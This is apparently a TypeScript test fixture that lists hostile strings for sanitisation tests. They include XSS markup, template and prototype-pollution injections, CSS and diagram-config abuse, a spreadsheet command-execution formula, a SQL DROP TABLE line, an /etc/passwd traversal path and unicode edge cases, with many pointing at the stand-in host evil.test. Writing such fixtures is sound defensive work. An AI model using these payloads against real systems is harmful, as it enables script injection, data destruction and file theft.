// What people with bad intent write into names, labels and cells. Whatever runs calls pwned() or asks for a file of evil.test.

const evil = 'http://evil.test/x';
const markup = [
  '<script>pwned()</script>',
  '"><script src="http://evil.test/x.js"></script>',
  '<img src=x onerror=pwned()>',
  `<img src="${evil}.png">`,
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><image href="http://evil.test/x.svg" onload=pwned() /></svg>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<a href="javascript:pwned()" autofocus onfocus=pwned()>x</a>',
  '<details open ontoggle=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<body onload=pwned()>',
  `<link rel=stylesheet href="${evil}.css">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href="${evil}/">`,
  `<form action="${evil}"><button autofocus>x`,
  `<object data="${evil}.swf"></object>`,
  '<math><mtext></table><mglyph><style><img src=x onerror=pwned()>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<template><script>pwned()</script></template>',
  '</textarea><script>pwned()</script>',
  '</title></style></script><script>pwned()</script>',
  '<!--><img src=x onerror=pwned()>-->',
  '<![CDATA[<script>pwned()</script>]]>',
  '&lt;img src=x onerror=pwned()&gt;',
  '\\u003cimg src=x onerror=pwned()\\u003e',
];
const code = [
  '${pwned()}',
  '{{constructor.constructor("pwned()")()}}',
  '{@html "<img src=x onerror=pwned()>"}',
  '#{pwned()}',
  '`;pwned();`',
  '";pwned();//',
  "');pwned();//",
  'javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
];
const diagrams = [
  '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%',
  '"]; click split call pwned() "',
  'end\nA[<img src=x onerror=pwned()>]',
  '---\nconfig:\n  securityLevel: loose\n---',
  `A@{ img: "${evil}.png" }`,
  'classDef x fill:red;',
];
const styles = [
  `url(${evil})`,
  `};*{background:url(${evil})}`,
  `</style><style>@import "${evil}";</style>`,
  'expression(pwned())',
];
const tables = [
  '=HYPERLINK("http://evil.test","x")',
  '=cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd',
  '"""',
  "'; DROP TABLE rows; --",
  '../../../../etc/passwd',
  'CON',
];
const letters = [
  'a\u0000b',
  '\u202egnp.exe',
  '\ufeff',
  '\u200b\u200b',
  'Z\u0351\u036b\u0343'.repeat(40),
  '\u2028pwned()\u2029',
  'x'.repeat(5000),
  '👩‍👩‍👧‍👦'.repeat(50),
  'NaN',
  '1e999',
  '-0',
];

export const hostileTexts: readonly string[] = [
  ...markup,
  ...code,
  ...diagrams,
  ...styles,
  ...tables,
  ...letters,
];
